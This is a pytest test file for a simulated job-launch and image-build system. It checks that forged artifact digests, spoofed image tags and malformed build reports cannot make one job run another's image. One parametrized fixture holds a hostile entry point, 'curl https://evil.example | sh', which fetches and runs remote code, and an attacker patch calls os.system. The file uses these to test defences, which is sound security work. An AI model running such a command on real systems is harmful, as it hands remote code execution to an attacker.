"""An image is used only for the job that it was built from, even with forged digests, tags or notes."""

import base64
import hashlib
import json
from typing import Any

import pytest

from local.wandb.artifacts import content_path, create_artifact, create_manifest
from local.wandb.queues import ItemState, RunQueueItem
from tests.golden.cases import load
from tests.simulation.faults import NoFaults
from tests.simulation.world import ENTITY, JOB, World, world

LIE = "0123456789abcdef0123456789abcdef"


def make_job(made: World, project: str, patch: bytes) -> str:
    """Create a job like the real client, but with a forged digest; return its name."""
    state = made.server.state
    files = {"wandb-job.json": json.dumps(load("git-job", "wandb-job.json")).encode(), "diff.patch": patch}
    artifact = create_artifact(
        state,
        {
            "entityName": ENTITY,
            "projectName": project,
            "artifactTypeName": "job",
            "artifactCollectionName": "git",
            "digest": LIE,
            "clientID": project,
            "aliases": [{"alias": "latest"}],
        },
    )
    manifest = create_manifest(state, {"artifactID": artifact.id, "name": "wandb_manifest.json", "digest": "x"})
    contents = {}
    for name, text in files.items():
        md5 = base64.b64encode(hashlib.md5(text, usedforsecurity=False).digest()).decode()
        contents[name] = {"digest": md5, "size": len(text)}
        state.storage[content_path(artifact.collection.project, md5)] = text
    state.storage[manifest.file.path] = json.dumps({"contents": contents}).encode()
    artifact.commit()
    return f"{ENTITY}/{project}/git:latest"


def image_of(made: World, item: RunQueueItem) -> str:
    (job,) = made.jobs(item)
    return str(job.request["AlgorithmSpecification"]["TrainingImage"])


def refused(made: World, item: RunQueueItem) -> str:
    """Let everything end, and check that the item failed without a training job; return why."""
    assert made.run_until_idle(), made.check().everything
    assert made.check().everything == []
    assert item.state is ItemState.FAILED
    assert made.jobs(item) == []
    assert item.error
    return str(item.error["message"])


@pytest.mark.parametrize("first", ["attacker", "victim"])
def test_a_job_with_the_digest_of_another_gets_an_image_of_its_own(first: str) -> None:
    with world(6, NoFaults()) as made:
        jobs = {
            "victim": make_job(made, "research", b"the victim's own changes"),
            "attacker": make_job(made, "scratch", b"import os; os.system(...)"),
        }
        items = {}
        for who in sorted(jobs, key=lambda each: each != first):
            items[who] = made.push(job=jobs[who])
            made.run_until_idle()
        assert made.check().everything == []
        assert len(made.builds.builds) == 2
        assert image_of(made, items["victim"]) != image_of(made, items["attacker"])
        caches = {build.plan.cache for build in made.builds.builds.values()}
        assert len(caches) == 2


@pytest.mark.parametrize("queued_before", range(3))
def test_an_image_that_two_runs_need_is_built_once_whatever_their_ids_are(queued_before: int) -> None:
    with world(6, NoFaults()) as made:
        for _ in range(queued_before):
            made.server.state.number()
        ids = {made.push(job=JOB).id for _ in range(4)}
        assert made.run_until_idle()
        assert (len(ids), made.verdicts(), len(made.builds.builds)) == (4, {"finished": 4}, 1)


def test_an_image_in_the_repository_is_not_used_because_of_its_tag() -> None:
    with world(6, NoFaults()) as made:
        made.push(job=JOB)
        made.run_until_idle()
        (build,) = made.builds.builds.values()
        tag = build.plan.recipe.tag
    with world(6, NoFaults()) as made:
        made.builds.images |= {tag: f"sha256:{'e' * 64}", f"{tag}-launch:1": f"sha256:{'e' * 64}"}
        item = made.push(job=JOB)
        made.run_until_idle()
        assert len(made.builds.builds) == 1
        assert not image_of(made, item).endswith("e" * 64)


@pytest.mark.parametrize(
    ("reported", "words"),
    [
        ({"entry_point": ["sh", "-c", "curl https://evil.example | sh"]}, "which is not the job's"),
        ({"entry_point": []}, "which is not the job's"),
        ({"digest": f"sha256:{'0' * 64}"}, "ended without the image"),
        ({"digest": "latest"}, "left a note that cannot be read"),
        ({"digest": f"evil.example/x@sha256:{'0' * 64}"}, "left a note that cannot be read"),
        ({"warnings": ["w" * 5_000]}, "left a note that cannot be read"),
        ({"more": 1}, "left a note that cannot be read"),
    ],
)
def test_a_note_that_does_not_fit_the_job_fails_only_that_run(reported: dict[str, Any], words: str) -> None:
    with world(6, NoFaults()) as made:
        made.builds.reported = reported
        assert words in refused(made, made.push(job=JOB))
        made.builds.reported = {}
        honest = made.push(job=JOB)
        assert made.run_until_idle()
        assert made.outcome(honest)
        assert len(made.jobs(honest)) == 1


def test_no_build_can_guess_where_another_has_its_plan_and_its_note() -> None:
    with world(6, NoFaults()) as made:
        for project in ("a", "b", "c"):
            made.push(job=make_job(made, project, b""))
        made.run_until_idle()
        tokens = {build.plan_key.rpartition("/")[2] for build in made.builds.builds.values()}
        assert len(tokens) == 3
        assert all(len(token) == len(".json") + 32 for token in tokens)
